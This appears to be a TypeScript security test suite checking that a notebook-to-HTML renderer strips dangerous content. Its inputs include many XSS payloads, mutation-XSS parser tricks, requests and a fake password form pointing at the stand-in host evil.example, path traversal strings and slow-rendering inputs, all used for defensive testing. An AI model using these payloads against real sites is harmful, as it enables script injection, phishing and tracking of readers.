/** Attacks by notebooks that are shown as pages: by what is in their texts, their outputs and the names of their pictures. */
import { parseFragment, serialize, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { renderNotebook } from '../../../notebooks/render/render.ts'
import { type Attack, attacks } from '../table.ts'

type Cells = Parameters<typeof renderNotebook>[0]['notebook']['cells']

const render = (cells: Cells) =>
  renderNotebook({ path: 'a/b.ipynb', notebook: { format: 'ipynb', cells }, picture: () => undefined })
const markdown = (source: string) => render([{ kind: 'markdown', source }]).html
const output = (data: object) =>
  render([{ kind: 'code', source: '', json: { outputs: [{ output_type: 'display_data', data }] } }]).html
/** Shows a text in each of the places in which a notebook may have it. */
const everywhere = (source: string) => [
  markdown(source),
  markdown(`- > ${source}`),
  markdown(`\`\`\`{note} ${source.replaceAll('\n', ' ')}\n${source}\n\`\`\``),
  markdown(`# ${source}`),
  markdown(`$${source}$ and \`\`\`${source}\`\`\``),
  output({ 'text/html': source }),
  output({ 'text/markdown': source }),
  output({ 'text/latex': source }),
  output({ 'text/plain': source }),
]

const elements = new Set(
  'a abbr b blockquote br code details div em h1 h2 i img li ol p pre section span strong sub summary sup table tbody td th thead tr ul math semantics mrow mi mo mn mtext msup mstyle mspace merror'.split(
    ' ',
  ),
)
const attributes = new Set(
  'align alt class dir display href id lang mathcolor open rel src stretchy target title width height fence separator mathvariant displaystyle scriptlevel'.split(
    ' ',
  ),
)

/** Returns what a browser would see in HTML that could do something, or that it would see otherwise at a second look. */
function dangers(html: string): string[] {
  const fragment = parseFragment(html)
  const found: string[] = []
  const look = (nodes: Tree.ChildNode[]): void => {
    for (const node of nodes) {
      if (!('tagName' in node)) continue
      if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`)
      for (const { name, value } of node.attrs) {
        if (!attributes.has(name)) found.push(`${node.tagName} ${name}`)
        if (name === 'href' && !/^(?:https?:|mailto:|#n-)/.test(value)) found.push(`href ${value}`)
        if (name === 'href' && !value.startsWith('#') && node.attrs.every((one) => one.name !== 'rel'))
          found.push('a link that tells where it stands')
        if (name === 'src' && !/^data:image\/(?:png|jpeg|gif|webp|svg\+xml);base64,[\w+/]+={0,2}$/.test(value))
          found.push(`src ${value}`)
        if (name === 'id' && !value.startsWith('n-')) found.push(`id ${value}`)
      }
      look(node.childNodes)
    }
  }
  look(fragment.childNodes)
  const once = serialize(fragment)
  if (serialize(parseFragment(once)) !== once) found.push('another page at a second look')
  return found
}

const all = (sources: string[]): string[] =>
  sources.flatMap((source) =>
    everywhere(source)
      .flatMap(dangers)
      .map((danger) => `${source}: ${danger}`),
  )

const table: Attack[] = [
  {
    name: 'has scripts, in every place where HTML may stand',
    rule: 'shown notebooks',
    attempt: async () =>
      all([
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        '<details open ontoggle=alert(1)>',
        '<body onload=alert(1)>',
        '<svg><script>alert(1)</script></svg>',
        '<svg/onload=alert(1)>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '[x](javascript:alert(1))',
        '[x](data:text/html;base64,PHNjcmlwdD4=)',
        '![x](data:text/html;base64,PHNjcmlwdD4=)',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object><embed src="x">',
        '<template><script>alert(1)</script></template>',
      ]),
    expected: [],
  },
  {
    name: 'is read in one way by the hub and in another by browsers',
    rule: 'shown notebooks',
    attempt: async () =>
      all([
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
        '<select><noembed></select><script x="a</noembed><img src=x onerror=alert(1)>"></script>',
        '<textarea></textarea><img title="</textarea><img src=x onerror=alert(1)>">',
        '<!--><img src=x onerror=alert(1)>-->',
        '<!-- --!><img src=x onerror=alert(1)> -->',
        '<![CDATA[><img src=x onerror=alert(1)>]]>',
        '<xmp></xmp><img src=x onerror=alert(1)><plaintext>',
        '<table><a href="javascript:x"><tr><td><a></table><b><p></b>',
        '<div title="\n\n$x$\n\n"><img src=x onerror=alert(1)>',
        '<p title="```x```">`<img src=x onerror=alert(1)>`',
        '<img alt="<script>" src="x`">',
        '<a title="`\n\n```python\n"><img src=x onerror=alert(1)>\n```\n',
      ]),
    expected: [],
  },
  {
    name: 'asks other addresses, by which they learn who reads',
    rule: 'shown notebooks',
    attempt: async () =>
      all([
        '![x](https://evil.example/x.png)',
        '![x](//evil.example/x.png)',
        '![x](\\\\evil.example/x.png)',
        '<img srcset="https://evil.example/x.png 1x" src="data:image/png;base64,AAAA">',
        '<img src="data:image/png;base64,AAAA" lowsrc="https://evil.example" longdesc="https://evil.example">',
        '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>',
        '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example) }</style>',
        '<p style="background: url(https://evil.example)">x</p>',
        '<table background="https://evil.example"><tr><td background="https://evil.example">',
        '<video poster="https://evil.example/x.png"></video><audio src=https://evil.example autoplay></audio>',
        '<input type=image src=https://evil.example><picture><source srcset=https://evil.example></picture>',
        '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/#x"/></svg>',
        '<a href="https://example.org" ping="https://evil.example">x</a>',
        '\\href{https://evil.example}{x} \\includegraphics{https://evil.example/x.png} \\url{javascript:x}',
        '\\htmlStyle{background: url(https://evil.example)}{x} \\htmlData{a=b}{x} \\htmlId{n}{x}',
      ]),
    expected: [],
  },
  {
    name: 'takes the page over: its address, its forms, its names, its place on the screen',
    rule: 'shown notebooks',
    attempt: async () =>
      all([
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example"><a href="x">x</a>',
        '<form action="https://evil.example"><input name=password><button formaction="javascript:x">Sign in</button></form>',
        '<a id=location name=body href="#x">x</a><img name=cookie id=document>',
        '<div style="position: fixed; inset: 0; z-index: 9" class="left-out outputs">x</div>',
        '<frameset><frame src="https://evil.example"></frameset><html><head><title>x</title></head></html>',
        '</section></article></body></html><h1>Sign in</h1><a href="https://bank@evil.example">x</a>',
        '<dialog open>x</dialog><menu><command onclick=x></menu><marquee onstart=x>x</marquee>',
      ]),
    expected: [],
  },
  {
    name: 'names the places of what the hub puts in itself, or pictures outside of the repository',
    rule: 'shown notebooks',
    attempt: async () => ({
      dangers: all(['<carrel-place at="0"></carrel-place><carrel-place at="undefined 0"></carrel-place> $x$']),
      pictures: [
        '../../x.png',
        '/../../etc/passwd.png',
        '..%2f..%2f..%2fx.png',
        '\\..\\x.png',
        'file:///x.png',
      ].flatMap((name) => render([{ kind: 'markdown', source: `<img src="${name}">` }]).pictures),
    }),
    expected: { dangers: [], pictures: ['a/\\..\\x.png'] },
  },
  {
    name: 'is made to be shown slowly: nesting, marks without an end, colours, formulas that grow',
    rule: 'shown notebooks',
    attempt: async () =>
      [
        '\\\\(',
        '\\\\[',
        '$$a\n',
        '\\begin{a}\n',
        '(a)=\n',
        '[',
        '![',
        '<p><table>',
        ':::{note}\n',
        '`',
        '> ',
        '* a\n ',
      ].filter((part) => {
        const source = part.repeat(Math.ceil(20_000 / part.length))
        const before = process.threadCpuUsage()
        everywhere(source.slice(0, 20_000))
        // All nine together take a second or two; what is quadratic takes minutes.
        return process.threadCpuUsage(before).user > 10_000_000
      }),
    expected: [],
  },
]

describe('attack: notebooks that are shown', function () {
  this.timeout(600_000)
  attacks(table)
})
